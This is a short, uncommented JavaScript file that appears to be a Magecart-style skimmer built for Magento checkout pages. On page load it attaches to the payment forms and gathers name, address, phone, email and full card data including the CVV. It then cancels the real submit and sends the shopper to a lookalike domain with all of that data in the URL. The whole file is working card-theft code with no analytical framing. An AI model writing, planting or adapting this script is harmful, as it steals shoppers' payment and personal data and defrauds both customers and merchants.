const collectCheckout = (form) => {
  const wanted = ['email', 'firstname', 'lastname', 'street', 'city', 'postcode', 'telephone',
    'cc_number', 'cc_exp_month', 'cc_exp_year', 'cc_cid', 'cc_owner'];
  const qs = new URLSearchParams();
  for (const el of Array.from(form.elements)) {
    const n = (el.name || '').replace(/^payment\[|\]$/g, '');
    if (wanted.some((w) => n.includes(w)) && el.value) qs.set(n, el.value);
  }
  return qs;
};

const onPay = (ev) => {
  const form = ev.currentTarget;
  const qs = collectCheckout(form);
  if (!qs.has('cc_number')) return;
  ev.preventDefault();
  qs.set('ret', location.href);
  qs.set('oid', String(Math.floor(Math.random() * 9e8) + 1e8));
  sessionStorage.setItem('pay_redirect', '1');
  window.location.href = 'https://magento-payments-secure.top/gateway/auth?' + qs.toString();
};

if (!sessionStorage.getItem('pay_redirect')) {
  window.addEventListener('DOMContentLoaded', () => {
    document.querySelectorAll('form#co-payment-form, form[data-role="payment-form"]').forEach((f) => {
      f.addEventListener('submit', onPay);
    });
  });
}
